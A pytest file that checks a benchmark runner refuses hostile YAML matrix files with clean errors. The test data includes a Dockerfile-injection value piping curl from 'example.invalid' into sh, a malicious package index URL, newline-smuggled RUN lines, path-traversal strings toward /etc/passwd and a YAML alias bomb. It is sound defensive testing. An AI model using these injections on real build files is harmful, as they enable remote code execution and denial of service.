"""Hostile matrix files: injection, traversal, id collisions, silently wrong values, alias bombs, huge plans.

Every case must end in a UserError (exit 2 at the CLI) whose one-paragraph message names the file and
the key, never in a traceback, a hang or a plan that quietly does something else.
"""

import os
import textwrap
import time

import pytest

from conftest import runner_cli
from runner.errors import UserError
from runner.matrix import expand, load_matrix, resolve_profile
from runner.render import render_all
from support import MINIMAL_MATRIX

MINIMAL = MINIMAL_MATRIX


def write(tmp_path, text, name="m.yaml"):
    path = tmp_path / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def plan_of(tmp_path, text, device="cpu"):
    path = write(tmp_path, text)
    matrix, lines = load_matrix(path)
    prof = resolve_profile(matrix, "full", device == "gpu", path, lines)
    return expand(matrix, path=path, lines=lines, profile=prof, device=device)


def refused(tmp_path, text, *needles):
    with pytest.raises(UserError) as info:
        plan = plan_of(tmp_path, text)
        render_all(plan.images)
    message = info.value.message
    assert "\n" not in message.strip(), message
    assert "m.yaml" in message, message
    for needle in needles:
        assert needle in message, message
    return message


def with_variant(options: str) -> str:
    return MINIMAL.replace("{batch_sizes: [16]}", "{batch_sizes: [16], variants: [" + options + "]}")


# ------------------------------------------------------------------ Dockerfile injection

@pytest.mark.parametrize("value", [
    "requests\nRUN curl -s http://example.invalid/x | sh\n#",
    "requests\rRUN id",
    "--index-url=http://evil.invalid/simple",
    "-e git+https://example.invalid/x.git",
    "requests @ https://example.invalid/requests.whl",
    "./local/path",
    "/etc/passwd",
    "requests; os_name == 'posix' \x00",
    "",
])
def test_extra_pip_refuses_anything_but_a_requirement(tmp_path, value):
    text = MINIMAL.replace('{versions: ["2.15.0"]}', '{versions: ["2.15.0"], extra_pip: [%s]}'
                           % __import__("json").dumps(value))
    refused(tmp_path, text, "frameworks.pytorch.extra_pip[0]")


def test_extra_pip_accepts_requirements_and_renders_them_quoted(tmp_path):
    text = MINIMAL.replace('{versions: ["2.15.0"]}',
                           '{versions: ["2.15.0"], extra_pip: ["requests>=2.31", "rich[jupyter]==13.7.1"]}')
    plan = plan_of(tmp_path, text)
    dockerfile = render_all(plan.images)[0].dockerfile
    assert "'requests>=2.31'" in dockerfile and "'rich[jupyter]==13.7.1'" in dockerfile
    # nothing of the matrix starts its own instruction line
    instructions = [line.split()[0] for line in dockerfile.splitlines()
                    if line.strip() and not line.startswith((" ", "#"))]
    assert set(instructions) <= {"FROM", "ENV", "RUN", "ARG", "WORKDIR", "COPY", "USER", "ENTRYPOINT", "CMD",
                                 "LABEL"}


def test_template_refuses_a_control_character_that_reaches_it():
    """Defence in depth: even a value no validator looked at cannot start a Dockerfile line."""
    from runner.compat import load_compat, resolve
    from runner.render import render
    choice = resolve(load_compat(), "pytorch", "2.15.0", "cpu", base_choice="plain")
    bad = type(choice)(**{**choice.__dict__, "python": "3.11\nRUN id"})
    with pytest.raises(UserError, match="control character"):
        render(bad)


@pytest.mark.parametrize("key, value", [
    ("options", '{"x\\nRUN id": 1}'),
    ("options", '{"x": "a\\nRUN id"}'),
])
def test_framework_options_refuse_control_characters(tmp_path, key, value):
    text = MINIMAL.replace('{versions: ["2.15.0"]}', '{versions: ["2.15.0"], %s: %s}' % (key, value))
    refused(tmp_path, text, "frameworks.pytorch.options")


@pytest.mark.parametrize("where, text", [
    ("frameworks", MINIMAL.replace("pytorch: {", '"pytorch\\nRUN id": {')),
    ("versions", MINIMAL.replace('"2.15.0"', '"2.15.0/../../x"')),
    ("toolchains", MINIMAL.replace("[cpu]", '["../cpu"]')),
    ("workloads", MINIMAL.replace("vgg16-step: {", '"../../vgg16-step": {')),
])
def test_names_outside_the_safe_alphabet_are_refused(tmp_path, where, text):
    refused(tmp_path, text, where)


# ------------------------------------------------------------------ path traversal through the cell id

@pytest.mark.parametrize("options", [
    '{options: {"x/../../../../victim": 1}}',
    '{options: {"..": 1}}',
    '{options: {"a b": 1}}',
    '{options: {"": 1}}',
])
def test_variant_option_keys_come_from_a_safe_alphabet(tmp_path, options):
    refused(tmp_path, with_variant(options), "workloads.vgg16-step.variants[0].options")


def test_cell_ids_are_file_names_inside_the_run_directory(tmp_path):
    plan = plan_of(tmp_path, with_variant('{options: {mode: "../../../etc/passwd"}}, {options: {mode: "x/y"}}'))
    run_dir = (tmp_path / "run").resolve()
    for cell in plan.cells:
        assert "/" not in cell.id and "\\" not in cell.id and not cell.id.startswith(".")
        assert (run_dir / f"{cell.id}.json").resolve().parent == run_dir


# ------------------------------------------------------------------ id collisions

@pytest.mark.parametrize("values", [
    ('"a b"', '"a_b"', '"a/b"'),
    ("true", '"true"'),
    ("1", '"1"', "1.0"),
    ('"NHWC"', '"nhwc"'),
])
def test_distinct_variant_values_give_distinct_ids(tmp_path, values):
    variants = ", ".join("{options: {mode: %s}}" % v for v in values)
    try:
        plan = plan_of(tmp_path, with_variant(variants))
    except UserError as exc:  # refusing is allowed, silently merging is not
        assert "m.yaml" in exc.message and "same" in exc.message, exc.message
        return
    ids = [c.id for c in plan.cells]
    assert len(set(ids)) == len(ids) == len(values), ids
    assert len({i.casefold() for i in ids}) == len(ids), ids


def test_the_default_ids_are_unchanged(tmp_path):
    plan = plan_of(tmp_path, with_variant('{options: {data_format: NCHW, xla: true}}'))
    assert plan.cells[0].id == "pytorch-2.15.0-cpu-py3.11-vgg16-step-b16-fp32-cpu-data_format-NCHW-xla-true"


def test_two_cells_with_one_id_are_refused_naming_both():
    from runner.matrix import _check_ids_unique, Cell
    from runner.compat import load_compat, resolve
    image = resolve(load_compat(), "pytorch", "2.15.0", "cpu", base_choice="plain")
    common = dict(framework="pytorch", version="2.15.0", toolchain="cpu", python="3.11", workload="vgg16-step",
                  model=None, dataset=None, batch_size=16, precision="fp32", device="cpu", gpus=0,
                  iterations=1, epochs=None, warmup=None, eval_batches=None, synthetic=False, timeout_s=60,
                  options=(), image=image)
    a = Cell(**common, variant=(("mode", "A"),))
    b = Cell(**common, variant=(("mode", "a"),))
    with pytest.raises(UserError) as info:
        _check_ids_unique([a, b], "m.yaml")
    assert "mode='A'" in info.value.message and "mode='a'" in info.value.message


# ------------------------------------------------------------------ silently wrong values

@pytest.mark.parametrize("text, key", [
    (MINIMAL.replace("[16]", "[true]"), "workloads.vgg16-step.batch_sizes[0]"),
    (MINIMAL.replace("[16]", "[16.0]"), "workloads.vgg16-step.batch_sizes[0]"),
    (MINIMAL.replace("[16]", '["16"]'), "workloads.vgg16-step.batch_sizes[0]"),
    (MINIMAL.replace("[16]", "[16], iterations: true"), "workloads.vgg16-step.iterations"),
    (MINIMAL.replace("[16]", "[16], gpus: [true]"), "workloads.vgg16-step.gpus[0]"),
    (MINIMAL.replace("[16]", "[16], iterations: 100000000000000000000"), "workloads.vgg16-step.iterations"),
    (with_variant("{options: {lr: .nan}}"), "workloads.vgg16-step.variants[0].options.lr"),
    (with_variant("{options: {lr: .inf}}"), "workloads.vgg16-step.variants[0].options.lr"),
    (with_variant("{options: {lr: -.inf}}"), "workloads.vgg16-step.variants[0].options.lr"),
    (MINIMAL.replace("[16]", "[16], options: {lr: .nan}"), "workloads.vgg16-step.options.lr"),
    (with_variant("{options: {when: 2024-01-01}}"), "workloads.vgg16-step.variants[0].options.when"),
])
def test_values_that_would_be_coerced_are_refused(tmp_path, text, key):
    refused(tmp_path, text, key)


# ------------------------------------------------------------------ YAML alias bombs and deep documents

BOMB = """\
a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g, *g]
i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h, *h]
frameworks: *i
"""


def test_alias_bomb_is_refused_quickly(tmp_path):
    started = time.monotonic()
    message = refused(tmp_path, BOMB, "alias")
    assert time.monotonic() - started < 5, "the alias bomb was expanded"
    assert "line" in message


def test_recursive_alias_is_refused(tmp_path):
    refused(tmp_path, MINIMAL + "x: &x [*x]\n", "alias")


def test_small_aliases_still_work(tmp_path):
    text = MINIMAL.replace("vgg16-step: {batch_sizes: [16]}",
                           "vgg16-step: &w {batch_sizes: [16]}\n  alexnet-fwd: *w")
    plan = plan_of(tmp_path, text)
    assert {c.workload for c in plan.cells} == {"vgg16-step", "alexnet-fwd"}


def test_deeply_nested_yaml_is_refused(tmp_path):
    refused(tmp_path, "x: " + "[" * 5000 + "]" * 5000 + "\n", "deep")


@pytest.mark.parametrize("text", ["? [a, b]\n: 1\n", "frameworks: {[a]: 1}\n", "{? {a: 1} : 2}\n"])
def test_unhashable_keys_are_refused(tmp_path, text):
    refused(tmp_path, text)


# ------------------------------------------------------------------ huge plans

HUGE = """\
frameworks:
  pytorch: {versions: ["2.15.0"]}
toolchains: [cpu]
workloads:
  cnn-synthetic:
    models: [inception3, resnet50, vgg16, alexnet, nasnet]
    batch_sizes: [%s]
    precisions: [fp32, fp16, bf16, amp]
""" % ", ".join(str(i) for i in range(1, 1001))


def test_a_plan_over_the_cell_limit_is_refused_with_the_way_out(tmp_path):
    started = time.monotonic()
    message = refused(tmp_path, HUGE, "DLBENCH_MAX_CELLS", "20000", "10000")
    assert time.monotonic() - started < 10  # counted, not built
    assert "--only" in message  # and the message says how to narrow the plan


def test_the_cell_limit_can_be_raised(tmp_path, monkeypatch):
    monkeypatch.setenv("DLBENCH_MAX_CELLS", "30000")
    assert len(plan_of(tmp_path, HUGE).cells) == 20000


def test_a_bad_cell_limit_is_a_user_error(tmp_path, monkeypatch):
    monkeypatch.setenv("DLBENCH_MAX_CELLS", "lots")
    with pytest.raises(UserError, match="DLBENCH_MAX_CELLS"):
        plan_of(tmp_path, MINIMAL)


# ------------------------------------------------------------------ unreadable matrix files

def _cli_refuses(*args, needles=()):
    proc = runner_cli(*args, timeout=120)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    text = " ".join(proc.stderr.split())
    assert text.startswith("error:") or "error:" in text, proc.stderr
    for needle in needles:
        assert needle in text, proc.stderr
    return text


def test_matrix_that_is_not_utf8(tmp_path):
    path = tmp_path / "latin1.yaml"
    path.write_bytes(MINIMAL.encode() + b"# caf\xe9\n")
    _cli_refuses("plan", "--matrix", path, needles=[str(path), "UTF-8"])


def test_matrix_on_a_device_file():
    _cli_refuses("plan", "--matrix", "/dev/zero", needles=["/dev/zero", "not a regular file"])


def test_matrix_that_is_a_directory(tmp_path):
    _cli_refuses("plan", "--matrix", tmp_path, needles=[str(tmp_path), "directory"])


def test_matrix_that_is_too_big(tmp_path):
    path = tmp_path / "big.yaml"
    path.write_text(MINIMAL + "#" * (2 * 1024 * 1024) + "\n")
    with pytest.raises(UserError, match="too big"):
        load_matrix(path)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads files whatever their mode")
def test_matrix_that_is_unreadable(tmp_path):
    path = write(tmp_path, MINIMAL)
    path.chmod(0)
    _cli_refuses("plan", "--matrix", path, needles=[str(path), "cannot read"])


def test_unreadable_matrix_error_path(tmp_path):
    """As root a mode-0 file is readable; a FIFO with no writer is the unreadable case every user has."""
    fifo = tmp_path / "pipe.yaml"
    os.mkfifo(fifo)
    with pytest.raises(UserError, match="not a regular file"):
        load_matrix(fifo)


def test_a_long_list_is_checked_in_linear_time(tmp_path):
    """90,000 batch sizes: the duplicate check and the cell count must not be quadratic."""
    text = MINIMAL.replace("[16]", "[" + ", ".join(str(i) for i in range(1, 90001)) + ", 1]")
    started = time.monotonic()
    refused(tmp_path, text, "duplicate batch_sizes: 1")
    assert time.monotonic() - started < 30
